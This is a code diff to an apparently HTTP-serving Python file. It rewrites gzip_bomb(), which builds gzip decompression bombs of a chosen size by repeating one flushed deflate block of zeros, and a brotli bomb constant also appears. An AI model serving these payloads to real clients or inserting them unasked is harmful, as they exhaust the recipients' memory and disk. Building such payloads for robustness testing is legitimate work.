@@ -8,6 +8,7 @@ import ssl
 import struct
 import threading
 import time
+import zlib
 from collections.abc import Callable
 from contextlib import suppress
 from functools import cache
@@ -169,7 +170,12 @@ def reply(body: bytes = b"", *headers: bytes, status: bytes = b"200 OK") -> byte
 @cache
 def gzip_bomb(megabytes: int, layers: int = 1) -> bytes:
     """So many megabytes of zeros, packed once or several times."""
-    return gzip.compress(gzip_bomb(megabytes, layers - 1) if layers > 1 else ZEROS * megabytes)
+    if layers > 1:
+        return gzip.compress(gzip_bomb(megabytes, layers - 1))
+    deflate = zlib.compressobj(9, wbits=-15)
+    one = deflate.compress(ZEROS) + deflate.flush(zlib.Z_FULL_FLUSH)  # which may stand any number of times in a row
+    check = struct.pack("<II", zlib.crc32(ZEROS * megabytes), len(ZEROS) * megabytes)
+    return gzip.compress(b"")[:10] + one * megabytes + deflate.flush() + check
 
 
 BROTLI_BOMB = base64.b64decode(
